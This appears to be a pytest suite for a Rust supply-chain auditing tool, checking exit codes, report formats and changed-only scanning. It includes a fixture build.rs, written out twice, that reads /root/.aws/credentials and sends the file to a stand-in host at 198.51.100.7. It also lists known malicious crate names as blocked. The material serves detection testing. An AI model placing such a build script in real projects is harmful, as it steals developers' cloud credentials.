from __future__ import annotations

import json
from pathlib import Path

import pytest
import typer
from dulwich.repo import Repo
from typer.testing import CliRunner, Result

from analyzer.cli.audit import audit
from analyzer.config import DEFAULT_INDEX
from analyzer.errors import UsageError

THEFT = (
    'fn main() { let k = std::fs::read("/root/.aws/credentials").unwrap();\n'
    ' let mut s = std::net::TcpStream::connect("198.51.100.7:443").unwrap();\n'
    " std::io::Write::write_all(&mut s, &k).unwrap(); }\n"
)
HEAD = 'version = 4\n[[package]]\nname = "app"\nversion = "0.1.0"\n'
PACKAGE = (
    '[[package]]\nname = "{}"\nversion = "{}"\nchecksum = "' + "ab" * 32 + '"\n'
    f'source = "sparse+{DEFAULT_INDEX}"\n'
)


@pytest.fixture(autouse=True)
def _empty_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CRATESCOPE_CACHE_DIR", str(tmp_path / "cache"))


def run(*arguments: str | Path) -> Result:
    app = typer.Typer()
    app.command()(audit)
    result = CliRunner().invoke(app, [str(one) for one in arguments])
    if isinstance(result.exception, UsageError):
        raise result.exception
    return result


@pytest.fixture
def lock(tmp_path: Path) -> Path:
    path = tmp_path / "Cargo.lock"
    path.write_text(HEAD + PACKAGE.format("log", "0.4.0"))
    return path


def test_clean_lock_ends_with_0(lock: Path) -> None:
    result = run(lock)
    assert (result.exit_code, result.output.split()[0]) == (0, "CLEAR")


@pytest.mark.parametrize(
    ("name", "version", "code"), [("rustdecimal", "1.23.1", 20), ("safe-agent-rs", "1.0.0", 10)]
)
def test_known_name_ends_with_its_code(lock: Path, name: str, version: str, code: int) -> None:
    lock.write_text(HEAD + PACKAGE.format(name, version))
    assert run(lock.parent).exit_code == code


def test_half_a_lock_file_ends_with_30_and_its_line(lock: Path) -> None:
    lock.write_text(HEAD + "[[pack")
    result = run(lock)
    assert result.exit_code == 30
    assert f"{lock}:5" in result.output


def test_blocked_crate_beats_a_broken_file(lock: Path) -> None:
    lock.write_text(HEAD + PACKAGE.format("rustdecimal", "1.23.1"))
    (lock.parent / "half.lock").write_text("[[")
    assert run(lock, lock.parent / "half.lock").exit_code == 20


def test_registry_out_of_reach_ends_with_30(lock: Path) -> None:
    result = run(lock, "--scan", "--offline", "--jobs", "1")
    assert result.exit_code == 30
    assert "log 0.4.0 was not read" in " ".join(result.output.split())


def test_formats_pair_with_files(lock: Path, tmp_path: Path) -> None:
    one, two = tmp_path / "a.json", tmp_path / "b.jsonl"
    assert run(lock, "-o", one, "-o", two).output == ""
    document = json.loads(one.read_text())
    assert (document["schema"], document["packages"]) == ("cratescope.audit/v1", 2)
    assert json.loads(two.read_text().splitlines()[-1])["type"] == "audit"


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["nowhere"], "nowhere: No such file"),
        (["{lock}", "--format", "klingon"], "no format"),
        (["{lock}", "--jobs", "0"], "--jobs must be at least 1"),
        (["{lock}", "--rules", "x"], "--rules asks for contents"),
        (["{lock}", "--features", "x"], "features and targets ask for contents"),
        (["{lock}", "--target", "x"], "features and targets ask for contents"),
        (["{empty}"], "no Cargo.lock at or below"),
    ],
)
def test_senseless_request_is_an_error(
    lock: Path, tmp_path: Path, arguments: list[str], message: str
) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(UsageError) as error:
        run(*(one.format(lock=lock, empty=tmp_path / "empty") for one in arguments))
    assert message in str(error.value)
    assert error.value.exit_code == 2


def test_a_page_is_written_to_a_file_that_ends_so(lock: Path, tmp_path: Path) -> None:
    lock.write_text(HEAD + PACKAGE.format("rustdecimal", "1.23.1"))
    result = run(lock, "-o", tmp_path / "audit.html")
    page = (tmp_path / "audit.html").read_text()
    assert result.exit_code == 20
    assert page.startswith("<!doctype html>")
    assert "rustdecimal 1.23.1" in page


def test_sarif_names_the_line_of_the_lock_file(lock: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    lock.write_text(HEAD + PACKAGE.format("rustdecimal", "1.23.1"))
    monkeypatch.chdir(lock.parent)
    (result,) = json.loads(run(".", "--format", "sarif").output)["runs"][0]["results"]
    where = result["locations"][0]["physicalLocation"]
    assert where["artifactLocation"] == {"uri": "Cargo.lock", "uriBaseId": "%SRCROOT%"}
    assert lock.read_text().splitlines()[where["region"]["startLine"] - 1] == "[[package]]"


def test_sarif_shows_a_member_in_its_own_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "tool/src").mkdir(parents=True)
    (tmp_path / "Cargo.toml").write_text('[workspace]\nmembers = ["tool"]\n')
    (tmp_path / "Cargo.lock").write_text(HEAD.replace('"app"', '"tool"'))
    (tmp_path / "tool/Cargo.toml").write_text('[package]\nname = "tool"\nversion = "0.1.0"\n')
    (tmp_path / "tool/src/lib.rs").write_text("")
    (tmp_path / "tool/build.rs").write_text(
        'fn main() { let k = std::fs::read("/root/.aws/credentials").unwrap();\n'
        ' let mut s = std::net::TcpStream::connect("198.51.100.7:443").unwrap();\n'
        " std::io::Write::write_all(&mut s, &k).unwrap(); }\n"
    )
    monkeypatch.chdir(tmp_path)
    done = run(".", "--scan", "--offline", "--quiet", "--jobs", "1", "-o", "a.sarif")
    (log,) = json.loads((tmp_path / "a.sarif").read_text())["runs"]
    uris = {
        one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for one in log["results"]
    }
    assert (done.exit_code, uris) == (20, {"tool/build.rs"})


def test_choice_of_features_reaches_the_graph(tmp_path: Path) -> None:
    write(tmp_path / "Cargo.lock", LOCKED)
    write(tmp_path / "Cargo.toml", APP)
    write(tmp_path / "src/lib.rs", "")
    write(tmp_path / "wire/Cargo.toml", '[package]\nname = "wire"\nversion = "1.0.0"\n')
    write(tmp_path / "wire/src/lib.rs", "")
    features: list[list[str]] = []
    for more in ([], ["--features", "a,b"], ["--no-default-features", "-F", "b"]):
        graph = json.loads(
            run(tmp_path, "--scan", "--offline", "-q", "--format", "json", *more).output
        )["graph"]
        rows = [one for one in graph if one["name"] == "app"]
        features.append([one["name"] for one in rows[0]["features"]])

    assert features == [["a", "default"], ["a", "b", "default"], ["b"]]


LOCKED = """version = 4

[[package]]
name = "app"
version = "1.0.0"
dependencies = ["wire"]

[[package]]
name = "wire"
version = "1.0.0"
"""
APP = """[package]
name = "app"
version = "1.0.0"
edition = "2021"

[features]
default = ["a"]
a = []
b = []

[dependencies]
wire = { path = "wire", optional = true }
"""


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def test_only_what_changed_is_judged_by_the_policy_of_the_base(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "repository"
    root.mkdir()
    monkeypatch.chdir(root)
    lock, policy = root / "Cargo.lock", root / "cratescope.toml"
    lock.write_text(HEAD + PACKAGE.format("rustdecimal", "1.23.1"))
    policy.write_text('[policy]\nmode = "observe"\n')
    _commit(root, "Cargo.lock", "cratescope.toml")
    policy.unlink()
    same = run(".", "--changed-only", "main", "--format", "json")
    document = json.loads(same.output)
    assert (same.exit_code, document["verdict"], document["rows"]) == (0, "CLEAR", [])
    assert {one["name"] for one in document["since"]["unchanged"]} == {"app", "rustdecimal"}
    lock.write_text(lock.read_text() + PACKAGE.format("rustdecimal", "1.23.2"))
    assert run(".").exit_code == 20
    changed = run(".", "--changed-only", "main", "--format", "json")
    (row,) = json.loads(changed.output)["rows"]
    assert (changed.exit_code, row["version"]) == (0, "1.23.2")


def _commit(root: Path, *names: str) -> None:
    repo = Repo.init(str(root))
    repo.get_worktree().stage(list(names))
    who = b"a <a@example.invalid>"
    repo.get_worktree().commit(b"m", committer=who, author=who, ref=b"refs/heads/main")  # type: ignore[arg-type]  # bytes
    repo.close()


def test_contents_are_read_of_what_changed_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "repository"
    (root / "src").mkdir(parents=True)
    monkeypatch.chdir(root)
    (root / "Cargo.lock").write_text(HEAD)
    (root / "Cargo.toml").write_text('[package]\nname = "app"\nversion = "0.1.0"\n')
    (root / "build.rs").write_text(THEFT)
    (root / "src/lib.rs").write_text("")
    _commit(root, "Cargo.lock", "Cargo.toml", "build.rs", "src/lib.rs")
    options = (".", "--scan", "--offline", "--jobs", "1", "--changed-only", "main")
    same = run(*options)
    assert same.exit_code == 0
    assert "1 stand as they did there" in " ".join(same.output.split())
    (root / "src/lib.rs").write_text("pub fn one() {}\n")
    assert run(*options).exit_code == 20
